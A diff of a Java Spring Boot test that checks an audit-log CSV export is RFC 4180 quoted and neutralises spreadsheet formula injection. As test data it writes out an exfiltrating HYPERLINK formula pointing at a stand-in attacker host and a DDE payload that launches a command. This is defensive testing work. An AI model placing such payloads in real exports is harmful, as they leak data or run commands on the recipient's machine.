@@ -12,10 +12,14 @@ import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
+import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
+import java.util.List;
 import java.util.UUID;
 import no.samvirke.identity.Users;
 import no.samvirke.sharing.AuditTrail;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.autoconfigure.web.servlet.AutoConfigureMockMvc;
@@ -87,7 +91,7 @@ class AuditExportAndDisclosureTest {
                 .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
         String[] lines = csv.split("\r\n");
         assertThat(lines).hasSize(2);
-        assertThat(lines[0]).startsWith("id,occurredAt,username,agency,caseId,action,items");
+        assertThat(lines[0]).startsWith("\"id\",\"occurredAt\",\"username\",\"agency\",\"caseId\",\"action\",\"items\"");
         assertThat(lines[1]).contains("\"skole\"", "\"" + id + "\"", "\"CHANGE\"", "\"intake:register\"");
         JsonNode export = audit("/api/v1/audit?caseId=" + id).at("/entries/0");
         assertThat(export.get("action").asText()).isEqualTo("EXPORT");
@@ -133,11 +137,24 @@ class AuditExportAndDisclosureTest {
     }
 
     @Test
-    void csvCellsAreQuotedAndNeverStartAFormula() {
-        assertThat(AuditCsv.cell("=HYPERLINK(\"x\")")).isEqualTo("\"'=HYPERLINK(\"\"x\"\")\"");
-        assertThat(AuditCsv.cell("@sum")).isEqualTo("\"'@sum\"");
-        assertThat(AuditCsv.cell("a,b")).isEqualTo("\"a,b\"");
-        assertThat(AuditCsv.cell(null)).isEmpty();
+    void theExportNeutralisesFormulaCellsAndQuotesCommasQuotesAndNewlines() throws Exception {
+        UUID caseId = UUID.fromString(register(false));
+        var kjerne = users.find("kjerne").orElseThrow();
+        String hyperlink = "=HYPERLINK(\"https://angriper.example/?d=\"&A1,\"Klikk\")";
+        transactions.executeWithoutResult(tx -> trail.recordChange(caseId, kjerne, hyperlink,
+                "a, b \"c\"\nd", "\tcmd", "+1", "@SUM(1+1)*cmd|' /C calc'!A0"));
+        String csv = mvc.perform(get("/api/v1/audit/export").param("caseId", caseId.toString())
+                        .with(httpBasic("personvern", "demo")))
+                .andExpect(status().isOk()).andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
+        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
+        assertThat(records).hasSize(3).allSatisfy(r -> assertThat(r.size()).isEqualTo(14));
+        CSVRecord change = records.get(2);
+        assertThat(change.get(6)).isEqualTo("'" + hyperlink);                 // items
+        assertThat(change.get(7)).isEqualTo("'+1");                           // legal basis
+        assertThat(change.get(8)).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");  // purpose
+        assertThat(change.get(10)).isEqualTo("a, b \"c\"\nd");                 // before, intact
+        assertThat(change.get(11)).isEqualTo("'\tcmd");                       // after
+        assertThat(csv).doesNotContain(",=", ",@", ",+", ",\t", "\"=", "\"@", "\"+");
     }
 
     private JsonNode audit(String path) throws Exception {
